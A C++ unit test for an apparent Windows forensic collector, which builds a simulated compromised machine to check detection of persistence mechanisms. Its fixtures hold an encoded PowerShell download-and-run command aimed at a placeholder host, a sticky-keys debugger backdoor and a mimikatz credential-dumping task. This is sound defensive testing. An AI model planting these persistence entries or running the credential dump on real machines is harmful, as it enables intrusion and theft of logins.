// A whole run over a made machine, compared with what was reviewed before.
// Regenerate with HOZEN_REGENERATE=1 and review the difference.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "collector/engine/embedded_profiles.h"
#include "tests/builders/fake_windows.h"
#include "tests/builders/file_text.h"
#include "tests/engine/run_bundle.h"

namespace hozen {
namespace {

using test::Json;
using test::RunBundle;

constexpr const char* kRun = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
constexpr const char* kIfeo =
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";

/// An ordinary program, and each of the usual ways to stay.
fake::FakeWindows compromised_machine() {
  fake::FakeWindows windows;
  windows.user("alice");
  windows.user("\u4F50\u85E4");
  windows.user("gone", {.in_profile_list = false});
  windows.program("C:\\Program Files\\Vendor\\updater.exe");
  windows.value("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "Vendor",
                fake::sz("\"C:\\Program Files\\Vendor\\updater.exe\" /background"));
  windows.program("C:\\Users\\alice\\AppData\\Local\\Temp\\svchost.exe");
  windows.value(std::string{"HKU\\alice\\"} + kRun, "Update",
                fake::sz("C:\\Users\\alice\\AppData\\Local\\Temp\\svchost.exe -k"));
  windows.value(
      std::string{"HKU\\\u4F50\u85E4\\"} + kRun, "\u66F4\u65B0",
      fake::sz("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8A"
               "LwBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGEAKQA="));
  windows.value(std::string{"HKU\\gone\\"} + kRun, "left",
                fake::sz("rundll32.exe C:\\ProgramData\\x\\left.dll,Start"));
  windows.program("C:\\ProgramData\\x\\left.dll");
  windows.value(std::string{kIfeo} + "\\sethc.exe", "Debugger",
                fake::sz("C:\\Windows\\System32\\cmd.exe"));
  windows.program("C:\\Windows\\System32\\cmd.exe");
  windows.file("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\logon.bat",
               "@echo off\r\nstart C:\\Users\\Public\\a.exe\r\n");
  windows.file("C:\\Windows\\System32\\Tasks\\Example",
               "<Task><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command></Exec></Actions>"
               "</Task>");
  windows.file("C:\\Windows\\System32\\drivers\\etc\\hosts", "127.0.0.1 localhost\r\n");
  return windows;
}

/// Leaves out what follows from the layout of the builder's hives.
void make_canonical(Json& value) {
  if (value.is_object()) {
    for (const char* name : {"offset", "sha256", "sha1", "md5"}) value.erase(name);
    for (auto& [name, member] : value.items()) make_canonical(member);
  } else if (value.is_array()) {
    for (auto& member : value) make_canonical(member);
  }
}

std::string canonical(const RunBundle& bundle) {
  Json all;
  all["entries"] = bundle.order;
  for (const char* stream : {"findings", "records/run_keys", "records/autostarts",
                             "records/scheduled_tasks", "records/problems", "artifacts"})
    all[stream] = bundle.rows(stream);
  all["counts"] = bundle.json("manifest.json")["counts"];
  all["counts"].erase("bytes");  // of the log and the manifest's own times
  make_canonical(all);
  return test::dumped(all, 1) + "\n";
}

/// The profile `persistence` with all modules.
test::RunSetup persistence() {
  const std::vector<ProfileText> texts{
      embedded_profile_text(embedded_profiles(), "persistence").value()};
  ProfileReading reading = read_profiles(texts, embedded_profiles(), known_modules(all_modules()));
  EXPECT_TRUE(reading.problems.empty());
  test::RunSetup setup;
  setup.options.profile = std::move(reading.profile);
  setup.modules = {all_modules().begin(), all_modules().end()};
  return setup;
}

TEST(Golden, WholeRunOverAMadeMachine) {
  test::RunSetup setup = persistence();
  const auto source = compromised_machine().source();
  const RunBundle bundle = test::run_bundle(*source, setup);
  ASSERT_FALSE(bundle.error);
  const std::string actual = canonical(bundle);

  const char* root = std::getenv("HOZEN_SOURCE_DIR");
  const std::filesystem::path file = std::filesystem::path{root != nullptr ? root : "."} /
                                     "tests/engine/golden/compromised_machine.json";
  if (std::getenv("HOZEN_REGENERATE") != nullptr) {
    std::filesystem::create_directories(file.parent_path());
    std::ofstream{file, std::ios::binary} << actual;
  }
  const std::string expected = test::file_text(file);
  if (actual == expected) return;
  const auto [a, e] = std::mismatch(actual.begin(), actual.end(), expected.begin(), expected.end());
  const auto line = 1 + std::count(actual.begin(), a, '\n');
  const auto around = [](const std::string& whole, std::string::const_iterator at) {
    const auto start = at - std::min<std::ptrdiff_t>(at - whole.begin(), 200);
    return std::string{start, at + std::min<std::ptrdiff_t>(whole.end() - at, 200)};
  };
  ADD_FAILURE() << "differs from line " << line << " on; now:\n"
                << around(actual, a) << "\nreviewed:\n"
                << around(expected, e)
                << "\nHOZEN_REGENERATE=1 writes the new one; review it with git diff.";
}

TEST(Golden, ALimitOfFilesChangesNoFinding) {
  fake::FakeWindows windows = compromised_machine();
  windows.file("C:\\Windows\\System32\\Tasks\\GameOver",
               "<Task><RegistrationInfo><Description>" + std::string(500, 'x') +
                   "</Description></RegistrationInfo><Actions><Exec><Command>C:\\TMP\\mim.exe"
                   "</Command><Arguments>sekurlsa::LogonPasswords</Arguments></Exec></Actions>"
                   "</Task>");
  const auto source = windows.source();
  test::RunSetup whole = persistence(), limited = persistence();
  Profile& profile = limited.options.profile;
  profile.limits.max_file_bytes = 500;
  for (auto& module : profile.modules) module.max_file_bytes = 0;
  for (auto& target : profile.targets) target.max_file_bytes = 0;
  const RunBundle all = test::run_bundle(*source, whole);
  const RunBundle some = test::run_bundle(*source, limited);
  ASSERT_FALSE(all.error || some.error);
  EXPECT_NE(all.entries.at("findings.jsonl").find("GameOver"), std::string::npos);
  EXPECT_EQ(some.rows("findings"), all.rows("findings"));
  EXPECT_EQ(some.rows("records/problems"), all.rows("records/problems"));
  const auto rows = some.rows("artifacts");
  const auto task = std::find_if(rows.begin(), rows.end(), [](const Json& row) {
    return row.value("path", "").ends_with("\\GameOver");
  });
  ASSERT_NE(task, rows.end());
  EXPECT_EQ((*task)["outcome"], "truncated");
}

}  // namespace
}  // namespace hozen
